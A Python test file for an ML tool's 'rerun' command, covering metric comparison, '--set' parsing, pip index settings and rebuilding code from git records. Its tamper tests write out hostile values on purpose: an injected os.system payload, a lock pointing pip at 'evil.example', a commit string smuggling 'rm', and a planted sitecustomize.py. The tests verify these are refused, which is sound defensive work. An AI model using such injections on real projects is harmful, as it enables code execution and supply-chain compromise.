"""``autolog rerun``'s parts, each on its own: the comparison rules, ``--set`` on a recorded
command line, pip's index settings, the lock's lines, and the code rebuilt from a run's
record with real git repositories and a real store (``tests/test_rerun.py`` runs the whole
command on real trainings)."""

from __future__ import annotations

import json
import math
import shutil
import subprocess
from pathlib import Path

import click
import pytest

import autolog
from autolog.cli.rerun import apply_settings, parse_settings
from autolog.errors import InvalidInputError, RerunError
from autolog.projects import envs
from autolog.projects.code import capture_code, record_code
from autolog.projects.compare import (
    check_inputs,
    compare_inputs,
    compare_metrics,
    compare_params,
    is_timing_metric,
    predictions_differ,
    same_number,
)
from autolog.projects.environment import parse_lock
from autolog.projects.inputs import input_record
from autolog.projects.workspace import (
    CodeRecord,
    build_workspace,
    check_workdir,
    load_code_record,
    rebuilt,
)

needs_git = pytest.mark.skipif(shutil.which("git") is None, reason="needs the git command")

# -- what is compared ------------------------------------------------------------------------


@pytest.mark.parametrize(
    "key",
    [
        "autolog.wall_time_s",
        "autolog.cpu_time_s",
        "autolog.peak_memory_mb",
        "system/cpu_percent",
        "system/gpu0/power_w",
        "fit_time",
        "partial_fit_time",
        "mean_fit_time",
        "std_score_time",
        "epoch_time",
        "data_time",
        "compute_time",
        "samples_per_second",
        "epoch_time/worker_1",
        "train_runtime",
        "eval_runtime",
        "train_samples_per_second",
        "eval_steps_per_second",
    ],
)
def test_timing_and_resource_metrics_are_not_compared(key: str) -> None:
    assert is_timing_metric(key)


@pytest.mark.parametrize(
    "key",
    [
        "training_loss",
        "validation_loss",
        "training_accuracy",
        "mean_test_score",
        "rank_test_score",
        "learning_rate",
        "valid_0-l2",
        "best_iteration",
        "total_flos",
        "timestamp_feature",
        "runtime_error_rate",
        "autolog.exit_code",
    ],
)
def test_results_are_compared(key: str) -> None:
    assert not is_timing_metric(key)


def test_numbers_agree_within_the_relative_tolerance_and_nan_equals_nan() -> None:
    assert same_number(1.0, 1.0 + 1e-12, 1e-9)
    assert not same_number(1.0, 1.0 + 1e-6, 1e-9)
    assert same_number(1.0, 1.0 + 1e-6, 1e-5)
    assert same_number(math.nan, math.nan, 1e-9)
    assert not same_number(math.nan, 0.0, 1e-9)
    assert same_number(math.inf, math.inf, 0.0)
    assert not same_number(math.inf, -math.inf, 1e-9)
    assert not same_number(0.0, 1e-300, 1e-9)  # relative: no absolute slack around 0
    assert same_number(0.0, -0.0, 0.0)


def test_metrics_left_out_are_listed_and_the_rest_compared() -> None:
    before = {"loss": 0.5, "acc": 0.9, "fit_time": 1.0, "gone": 1.0, "nan": math.nan}
    after = {"loss": 0.5 + 1e-12, "acc": 0.8, "fit_time": 9.0, "new": 2.0, "nan": math.nan}
    found, timing = compare_metrics(before, after, 1e-9)
    assert timing == ["fit_time"]
    assert [(d.key, d.original, d.rerun) for d in found] == [
        ("acc", "0.9", "0.8"),
        ("gone", "1.0", "(absent)"),
        ("new", "(absent)", "2.0"),
    ]
    assert "relative difference 0.111" in found[0].note


def test_params_set_by_set_are_expected_to_differ() -> None:
    before = {"learning_rate": "0.1", "n_estimators": "10", "max_depth": "3"}
    after = {"learning_rate": "0.2", "n_estimators": "20", "max_depth": "3"}
    found = compare_params(before, after, overridden=["learning-rate"])
    assert [(d.key, d.expected) for d in found] == [
        ("learning_rate", True),
        ("n_estimators", False),
    ]
    assert found[0].note == "set by --set"


def test_inputs_compare_by_hash(tmp_path: Path) -> None:
    data = tmp_path / "data.csv"
    data.write_text("a,b\n1,2\n")
    recorded = {"autolog.input.data": json.dumps(input_record(data)), "other": "x"}
    assert compare_inputs(recorded, dict(recorded)) == []
    assert [c.state for c in check_inputs(recorded)] == ["same"]
    data.write_text("a,b\n1,3\n")
    now = {"autolog.input.data": json.dumps(input_record(data))}
    (found,) = compare_inputs(recorded, now)
    assert (found.section, found.key, found.note) == ("input", "data", str(data))
    assert found.original != found.rerun
    (check,) = check_inputs(recorded)
    assert check.state == "differs"
    assert check.current_sha256 == input_record(data)["sha256"]
    data.unlink()
    assert [c.state for c in check_inputs(recorded)] == ["missing"]
    (gone,) = compare_inputs(recorded, {})
    assert gone.rerun == "(absent)"


def test_predictions_differ_says_how() -> None:
    np = pytest.importorskip("numpy")
    assert predictions_differ(np.array([1.0, 2.0]), np.array([1.0, 2.0 + 1e-12]), 1e-9) is None
    assert predictions_differ([0, 1, 1], [0, 1, 1], 1e-9) is None
    assert predictions_differ(["a", "b"], ["a", "c"], 1e-9) == "1 of 2 values differ"
    said = predictions_differ(np.array([1.0, 2.0, 4.0]), np.array([1.0, 2.5, 4.0]), 1e-9)
    assert said == "1 of 3 values differ (largest relative difference 0.2)"
    assert predictions_differ(np.zeros((2, 3)), np.zeros((2, 2)), 1e-9) == "shape [2, 3] -> [2, 2]"


# -- --set on a recorded command line ----------------------------------------------------------


def test_set_options_are_parsed_and_bad_ones_are_usage_errors() -> None:
    assert parse_settings(["lr=0.1", "name=a=b", "empty="]) == {
        "lr": "0.1",
        "name": "a=b",
        "empty": "",
    }
    for bad in (["lr"], ["=1"], ["a b=1"], ["lr=1", "lr=2"]):
        with pytest.raises(click.BadParameter):
            parse_settings(bad)


def test_set_replaces_an_option_where_it_is_in_either_form() -> None:
    argv = ["train.py", "--lr", "0.1", "--n_estimators=10", "--data", "d.csv"]
    assert apply_settings(argv, {"lr": "0.5", "n-estimators": "20"}) == [
        "train.py",
        "--lr",
        "0.5",
        "--n_estimators=20",
        "--data",
        "d.csv",
    ]


def test_set_appends_an_option_the_command_did_not_give() -> None:
    assert apply_settings(["-m", "pkg.train", "--lr", "1"], {"epochs": "3"}) == [
        "-m",
        "pkg.train",
        "--lr",
        "1",
        "--epochs",
        "3",
    ]
    # what follows -- is the script's positional arguments: the option goes before it
    assert apply_settings(["t.py", "--", "--lr"], {"lr": "2"}) == [
        "t.py",
        "--lr",
        "2",
        "--",
        "--lr",
    ]


def test_set_takes_negative_numbers_as_values_and_refuses_flags() -> None:
    assert apply_settings(["t.py", "--shift", "-1.5"], {"shift": "2"}) == ["t.py", "--shift", "2"]
    with pytest.raises(click.BadParameter, match="--verbose as a flag"):
        apply_settings(["t.py", "--verbose", "--lr", "1"], {"verbose": "2"})


# -- the environment: indexes, the lock's lines, the cache key -------------------------------


def test_pip_index_settings_follow_pips_precedence(monkeypatch: pytest.MonkeyPatch) -> None:
    listing = "\n".join(
        [
            "global.cert='/etc/ssl/certs/ca.crt'",
            "global.index-url='https://global.example/simple'",
            "install.index-url='https://install.example/simple'",
            "global.extra-index-url='file:///a/simple file:///b/simple'",
            ":env:.find-links='/opt/wheels'",
            "global.find-links='/ignored'",
        ]
    )
    settings = envs._pip_settings(listing)
    assert settings["index-url"] == "https://install.example/simple"
    assert settings["extra-index-url"] == "file:///a/simple file:///b/simple"
    assert settings["find-links"] == "/opt/wheels"
    options = envs.IndexOptions(
        index_url="https://i/simple", extra_index_urls=("file:///a",), find_links=("/w",)
    )
    assert options.arguments() == [
        "--index-url",
        "https://i/simple",
        "--extra-index-url",
        "file:///a",
        "--find-links",
        "/w",
    ]


def test_index_options_read_pip_here(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    config = tmp_path / "pip.conf"
    config.write_text("[global]\nextra-index-url = file:///x/simple\nfind-links = /a /b\n")
    monkeypatch.setenv("PIP_CONFIG_FILE", str(config))
    monkeypatch.setenv("PIP_FIND_LINKS", "/somewhere/wheels")
    options = envs.index_options()
    assert "file:///x/simple" in options.extra_index_urls
    assert options.find_links == ("/somewhere/wheels",)  # the variable over the files
    if shutil.which("pip3") or shutil.which("pip"):
        # an interpreter without pip of its own (a uv environment): the pip on PATH says
        assert envs.index_options("/nonexistent/python") == options


def test_the_locks_autolog_line_is_replaced_by_the_running_autolog() -> None:
    lock = "\n".join(
        [
            "# autolog environment lock",
            "# python: 3.11.7",
            "# implementation: CPython",
            "# platform: linux-x86_64",
            "numpy==2.1.3",
            "-e /elsewhere/autolog  # autolog==0.0.1 (editable)",
            "-e /work/mine  # mypkg==1.0 (editable)",
            "",
        ]
    )
    from autolog.projects.environment import parse_lock

    lines = envs.installable_lines(parse_lock(lock).requirements, lock)
    ours = envs.autolog_requirement()
    assert lines == ["numpy==2.1.3", "-e /work/mine", ours]
    assert ours.startswith(("-e ", "autolog @ ", "autolog=="))
    for pinned in ("autolog==0.0.1", "Autolog @ file:///x.whl"):
        assert envs.installable_lines(["numpy==2.1.3", pinned], "") == ["numpy==2.1.3", ours]


def test_the_cache_key_follows_the_lines_and_the_python_version() -> None:
    key = envs.env_key(["numpy==2.1.3"], "3.11.7")
    assert key == envs.env_key(["numpy==2.1.3"], "3.11.7")
    assert key != envs.env_key(["numpy==2.1.4"], "3.11.7")
    assert key != envs.env_key(["numpy==2.1.3"], "3.12.1")


def test_the_cache_folder(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv(envs.CACHE_DIR_VARIABLE, str(tmp_path / "c"))
    assert envs.cache_dir() == tmp_path / "c"
    monkeypatch.delenv(envs.CACHE_DIR_VARIABLE)
    assert envs.cache_dir() == Path.home() / ".cache" / "autolog"


def test_the_child_gets_the_recorded_variables_and_the_environment_first_on_path(
    tmp_path: Path,
) -> None:
    env = envs.PythonEnv(
        str(tmp_path / "bin" / "python"), tmp_path, {"PYTHONHASHSEED": "0"}
    ).child_environment({"PATH": "/usr/bin", "PYTHONHOME": "/x", "PYTHONHASHSEED": "7"})
    assert env == {
        "PATH": f"{tmp_path / 'bin'}:/usr/bin",
        "PYTHONHASHSEED": "0",
        "VIRTUAL_ENV": str(tmp_path),
    }


def test_a_variable_the_run_did_not_have_set_is_unset_for_its_rerun() -> None:
    """A PYTHONHASHSEED (or thread count) set here but not when the run ran would change the
    rerun's results: it is removed; variables outside the allow-list are kept."""
    here = {"PATH": "/usr/bin", "PYTHONHASHSEED": "7", "OMP_NUM_THREADS": "1", "HOME": "/h"}
    lock = (
        "# autolog environment lock\n# python: 3.11.7\n# implementation: CPython\n"
        "# platform: linux-x86_64\n# env: OMP_NUM_THREADS=4\nnumpy==2.0.0\n"
    )
    recorded = envs.current_env(parse_lock(lock))
    assert recorded.child_environment(here) == {
        "PATH": "/usr/bin",
        "OMP_NUM_THREADS": "4",
        "HOME": "/h",
    }
    assert envs.current_env(None).child_environment(here) == here  # nothing recorded


# -- the code, rebuilt -----------------------------------------------------------------------


def _git(folder: Path, *args: str) -> str:
    done = subprocess.run(
        ["git", "-C", str(folder), *args], capture_output=True, text=True, check=True
    )
    return done.stdout


def _repository(folder: Path) -> Path:
    folder.mkdir(parents=True)
    _git(folder, "init", "-q", "-b", "main")
    _git(folder, "config", "user.email", "t@example.com")
    _git(folder, "config", "user.name", "t")
    (folder / "src").mkdir()
    (folder / "src" / "train.py").write_text("print('committed')\n")
    (folder / "blob.bin").write_bytes(bytes(range(256)))
    (folder / ".gitignore").write_text("*.log\n")
    _git(folder, "add", "-A")
    _git(folder, "commit", "-q", "-m", "first")
    return folder


def _dirty(folder: Path) -> None:
    (folder / "src" / "train.py").write_text("print('edited')\n")
    (folder / "blob.bin").write_bytes(bytes(reversed(range(256))))
    (folder / "src" / "helper.py").write_text("VALUE = 1\n")
    (folder / "staged.txt").write_text("staged\n")
    _git(folder, "add", "staged.txt")
    (folder / "ignored.log").write_text("not code\n")


def _recorded(client: autolog.Client, folder: Path) -> str:
    run_id = client.create_run(run_name="r").info.run_id
    snapshot = capture_code(folder / "src", ["train.py", "--lr", "0.1"])
    assert snapshot is not None
    record_code(client, run_id, snapshot)
    client.set_terminated(run_id)
    assert client.flush(30)
    return run_id


def _state(folder: Path) -> tuple[str, str, str, str]:
    """What autolog must never change in the user's repository."""
    return (
        _git(folder, "status", "--porcelain=v2", "--branch", "-uall"),
        _git(folder, "show-ref"),
        _git(folder, "stash", "list"),
        (folder / ".git" / "index").read_bytes().hex(),
    )


@needs_git
def test_the_code_is_rebuilt_without_touching_the_users_repository(tmp_path: Path) -> None:
    repo = _repository(tmp_path / "repo")
    _dirty(repo)
    with autolog.Client(f"sqlite:///{tmp_path}/runs.db") as client:
        run_id = _recorded(client, repo)
        before = _state(repo)
        record = load_code_record(client, run_id)
        assert record.workdir == "src"
        assert record.argv == ("train.py", "--lr", "0.1")
        with rebuilt(client, run_id, record, start=tmp_path) as ws:
            assert ws.source == str(repo)
            assert ws.workdir == ws.root / "src"
            for name in ("src/train.py", "blob.bin", "src/helper.py", "staged.txt"):
                assert (ws.root / name).read_bytes() == (repo / name).read_bytes(), name
            assert not (ws.root / "ignored.log").exists()
            assert _git(ws.root, "rev-parse", "HEAD").strip() == record.commit
            folder = ws.root
        assert not folder.exists()  # the temporary folder is removed
        assert _state(repo) == before


@needs_git
def test_workdir_keeps_the_rebuilt_code_and_must_be_empty(tmp_path: Path) -> None:
    repo = _repository(tmp_path / "repo")
    _dirty(repo)
    (tmp_path / "full").mkdir()
    (tmp_path / "full" / "x").write_text("x")
    with pytest.raises(InvalidInputError, match="is not empty"):
        check_workdir(tmp_path / "full")
    with pytest.raises(InvalidInputError, match="is not a folder"):
        check_workdir(tmp_path / "full" / "x")
    with autolog.Client(f"sqlite:///{tmp_path}/runs.db") as client:
        run_id = _recorded(client, repo)
        keep = tmp_path / "kept" / "code"
        with rebuilt(client, run_id, load_code_record(client, run_id), keep=keep) as ws:
            assert ws.root == keep
        assert (keep / "src" / "train.py").read_text() == "print('edited')\n"
        # kept: it has its own objects (the user's repository may be garbage-collected)
        assert not (keep / ".git" / "objects" / "info" / "alternates").exists()


@needs_git
def test_a_commit_found_nowhere_names_it_and_the_places_tried(tmp_path: Path) -> None:
    repo = _repository(tmp_path / "repo")
    with autolog.Client(f"sqlite:///{tmp_path}/runs.db") as client:
        run_id = _recorded(client, repo)
        record = load_code_record(client, run_id)
        shutil.rmtree(repo)
        elsewhere = tmp_path / "elsewhere"
        elsewhere.mkdir()
        with pytest.raises(RerunError) as caught:
            build_workspace(client, run_id, record, tmp_path / "ws", start=elsewhere)
    assert str(caught.value).startswith(f"commit {record.commit} is in none of the repositories")
    assert str(repo) in str(caught.value)


@needs_git
def test_the_recorded_remote_is_cloned_when_no_local_repository_has_the_commit(
    tmp_path: Path,
) -> None:
    repo = _repository(tmp_path / "repo")
    remote = tmp_path / "remote.git"
    _git(tmp_path, "init", "-q", "--bare", str(remote))
    _git(repo, "remote", "add", "origin", str(remote))
    _git(repo, "push", "-q", "origin", "main")
    with autolog.Client(f"sqlite:///{tmp_path}/runs.db") as client:
        run_id = _recorded(client, repo)
        record = load_code_record(client, run_id)
        assert record.remote == str(remote)
        shutil.rmtree(repo)
        ws = build_workspace(client, run_id, record, tmp_path / "ws", start=tmp_path)
    assert ws.source == str(remote)
    assert (ws.root / "src" / "train.py").read_text() == "print('committed')\n"


@needs_git
def test_a_patch_that_does_not_apply_is_an_error_in_gits_words(tmp_path: Path) -> None:
    repo = _repository(tmp_path / "repo")
    commit = _git(repo, "rev-parse", "HEAD").strip()
    manifest = {"commit": commit, "root": str(repo), "workdir": "src", "argv": ["train.py"]}
    patch = "--- a/src/train.py\n+++ b/src/train.py\n@@ -1 +1 @@\n-print('other')\n+print('x')\n"
    manifest["diff_bytes"] = len(patch)
    (tmp_path / "code").mkdir()
    (tmp_path / "code" / "manifest.json").write_text(json.dumps(manifest))
    (tmp_path / "code" / "diff.patch").write_text(patch)
    with autolog.Client(f"sqlite:///{tmp_path}/runs.db") as client:
        run_id = client.create_run().info.run_id
        client.log_artifacts(run_id, tmp_path / "code", "code")
        client.set_terminated(run_id)
        record = load_code_record(client, run_id)
        with pytest.raises(RerunError, match=r"do not apply to its commit: .*patch does not apply"):
            build_workspace(client, run_id, record, tmp_path / "ws", start=repo)


def test_a_run_without_code_says_so(tmp_path: Path) -> None:
    with autolog.Client(f"sqlite:///{tmp_path}/runs.db") as client:
        run_id = client.create_run().info.run_id
        client.set_terminated(run_id)
        with pytest.raises(RerunError, match="recorded no code"):
            load_code_record(client, run_id)


def test_a_malformed_manifest_is_refused() -> None:
    with pytest.raises(RerunError, match="no command"):
        CodeRecord.from_manifest({"commit": "ab12", "argv": []}, "r")
    with pytest.raises(RerunError, match="no usable commit"):
        CodeRecord.from_manifest({"commit": "x; rm", "argv": ["t.py"]}, "r")
    with pytest.raises(RerunError, match="outside its repository"):
        CodeRecord.from_manifest({"commit": "ab12", "argv": ["t.py"], "workdir": "../x"}, "r")


def test_the_summary_says_what_was_compared() -> None:
    from autolog.projects.compare import Comparison

    everything = Comparison((), (), 7, params_compared=1, inputs_compared=2)
    assert everything.summary() == (
        "1 param, 7 metrics, the model's predictions on its input example and 2 inputs"
    )
    no_model = Comparison((), (("predictions", "no input example"),), 1, params_compared=3)
    assert no_model.summary() == "3 params and 1 metric"


# -- what is read from the run is what it recorded ---------------------------------------------


def _artifacts(client: autolog.Client, run_id: str) -> Path:
    return Path(client.get_run(run_id).info.artifact_uri.removeprefix("file://"))


@needs_git
@pytest.mark.parametrize("changed", ["code/diff.patch", "code/untracked/src/helper.py"])
def test_a_changed_patch_or_untracked_file_is_refused_naming_it(
    tmp_path: Path, changed: str
) -> None:
    repo = _repository(tmp_path / "repo")
    _dirty(repo)
    with autolog.Client(f"sqlite:///{tmp_path}/runs.db") as client:
        run_id = _recorded(client, repo)
        record = load_code_record(client, run_id)
        with (_artifacts(client, run_id) / changed).open("ab") as stream:
            stream.write(b"import os; os.system('echo owned')\n")
        with pytest.raises(RerunError) as caught:
            build_workspace(client, run_id, record, tmp_path / "ws", start=repo)
    assert str(caught.value) == (
        f"{changed} does not match the SHA-256 recorded with run {run_id}: it was changed since"
    )


@needs_git
def test_a_changed_manifest_is_refused(tmp_path: Path) -> None:
    repo = _repository(tmp_path / "repo")
    with autolog.Client(f"sqlite:///{tmp_path}/runs.db") as client:
        run_id = _recorded(client, repo)
        manifest = _artifacts(client, run_id) / "code" / "manifest.json"
        manifest.write_text(manifest.read_text().replace("train.py", "other.py"))
        with pytest.raises(RerunError, match=r"code/manifest\.json does not match the SHA-256"):
            load_code_record(client, run_id)


@needs_git
def test_only_the_untracked_files_the_manifest_lists_are_copied(tmp_path: Path) -> None:
    repo = _repository(tmp_path / "repo")
    _dirty(repo)
    with autolog.Client(f"sqlite:///{tmp_path}/runs.db") as client:
        run_id = _recorded(client, repo)
        untracked = _artifacts(client, run_id) / "code" / "untracked"
        (untracked / "src" / "extra.py").write_text("print('slipped in')\n")
        (untracked / "sitecustomize.py").write_text("print('slipped in')\n")
        record = load_code_record(client, run_id)
        ws = build_workspace(client, run_id, record, tmp_path / "ws", start=repo)
    assert record.untracked == ("src/helper.py",)
    assert (ws.root / "src" / "helper.py").read_text() == "VALUE = 1\n"
    assert not (ws.root / "src" / "extra.py").exists()
    assert not (ws.root / "sitecustomize.py").exists()


@needs_git
@pytest.mark.parametrize(
    ("how", "message"),
    [
        ("changed", "does not match the SHA-256 recorded with run {}: it was changed since"),
        ("unrecorded", "has no SHA-256 recorded with run {}"),
    ],
)
def test_a_lock_changed_or_never_recorded_is_not_installed(
    tmp_path: Path, how: str, message: str
) -> None:
    from click.testing import CliRunner

    from autolog.cli.rerun import command
    from autolog.projects.environment import LOCK_ARTIFACT

    repo = _repository(tmp_path / "repo")
    lock = tmp_path / "requirements.lock"
    lock.write_text("# autolog environment lock\nnumpy==1.26.4\n")
    uri = f"sqlite:///{tmp_path}/runs.db"
    with autolog.Client(uri) as client:
        run_id = client.create_run().info.run_id
        snapshot = capture_code(repo / "src", ["train.py"])
        assert snapshot is not None
        record_code(client, run_id, snapshot)
        if how == "changed":
            client.log_artifact(run_id, lock, "environment")
        client.set_terminated(run_id)
        assert client.flush(30)
        folder = _artifacts(client, run_id)
        if how == "changed":
            (folder / LOCK_ARTIFACT).write_text("--index-url http://evil.example/\nnumpy\n")
        else:  # put beside the run's artifacts, never logged
            (folder / "environment").mkdir()
            shutil.copyfile(lock, folder / LOCK_ARTIFACT)
    result = CliRunner().invoke(command, [run_id, "--tracking-uri", uri])
    assert isinstance(result.exception, RerunError), result.output
    assert str(result.exception).startswith(LOCK_ARTIFACT)
    assert message.format(run_id) in str(result.exception)
